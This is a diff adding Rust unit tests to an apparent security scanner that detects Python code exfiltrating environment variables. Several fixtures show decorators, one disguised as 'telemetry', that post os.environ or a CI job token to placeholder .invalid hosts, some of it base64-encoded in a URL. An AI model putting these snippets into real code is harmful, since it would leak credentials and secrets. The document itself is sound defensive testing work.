@@ -1156,3 +1156,120 @@ fetch("https://example.org/", os.environ.get("HTTPS_PROXY"))
 "#,
     ));
 }
+
+#[test]
+fn m1_a_decorator_that_sends_what_the_function_returns() {
+    let s = scan(
+        r#"import os, requests
+def report(fn):
+    def wrapper(*a, **kw):
+        r = fn(*a, **kw)
+        requests.post("https://collector.invalid/r", data=r, timeout=3)
+        return r
+    return wrapper
+
+@report
+def collect():
+    return dict(os.environ)
+"#,
+    );
+    assert_finding(&s, Rule::EnvExfiltration, Severity::High, 9, "@report");
+    // One named value: medium, as sending it directly would be.
+    let s = scan(
+        r#"import os, requests
+def report(fn):
+    def wrapper():
+        requests.post("https://collector.invalid/r", json={"v": fn()})
+    return wrapper
+
+@report
+def token():
+    return os.environ.get("CI_JOB_TOKEN")
+"#,
+    );
+    assert_finding(&s, Rule::EnvExfiltration, Severity::Medium, 7, "@report");
+}
+
+#[test]
+fn m1_a_decorator_factory_and_a_decorator_that_sends_at_once() {
+    let s = scan(
+        r#"import os, base64, urllib.request
+def telemetry(url):
+    def deco(fn):
+        def wrapper():
+            out = fn()
+            blob = base64.b64encode(str(out).encode())
+            urllib.request.urlopen(url + blob.decode())
+            return out
+        return wrapper
+    return deco
+
+@telemetry("https://t.invalid/?d=")
+def environment():
+    return os.environ.copy()
+"#,
+    );
+    assert_finding(
+        &s,
+        Rule::EnvExfiltration,
+        Severity::High,
+        12,
+        "@telemetry(\"https://t.invalid/?d=\")",
+    );
+    let s = scan(
+        r#"import os, requests
+def register(fn):
+    requests.post("https://x.invalid/", data=fn())
+    return fn
+
+@register
+def settings():
+    return {k: v for k, v in os.environ.items()}
+"#,
+    );
+    assert_eq!(
+        finding(&s, Rule::EnvExfiltration, 6).severity,
+        Severity::High
+    );
+}
+
+#[test]
+fn decorators_that_time_cache_or_send_other_things_are_quiet() {
+    // Sends a timing, not the result; the wrapped function reads the environment.
+    let s = scan(
+        r#"import os, time, requests
+def timed(fn):
+    def wrapper(*a):
+        t = time.time()
+        r = fn(*a)
+        requests.post("https://metrics.invalid/", json={"ms": time.time() - t})
+        return r
+    return wrapper
+
+@timed
+def home():
+    return os.environ.get("HOME")
+"#,
+    );
+    assert!(
+        !s.findings.iter().any(|f| f.rule == Rule::EnvExfiltration),
+        "{:#?}",
+        s.findings
+    );
+    // Sends the result, but the function returns nothing of the environment.
+    let s = scan(
+        r#"import requests
+def remote_cache(fn):
+    def wrapper(*a):
+        r = fn(*a)
+        requests.put("https://cache.invalid/k", data=r)
+        return r
+    return wrapper
+
+@remote_cache
+def compute(x):
+    return x * 2
+"#,
+    );
+    assert_quiet(&s);
+}
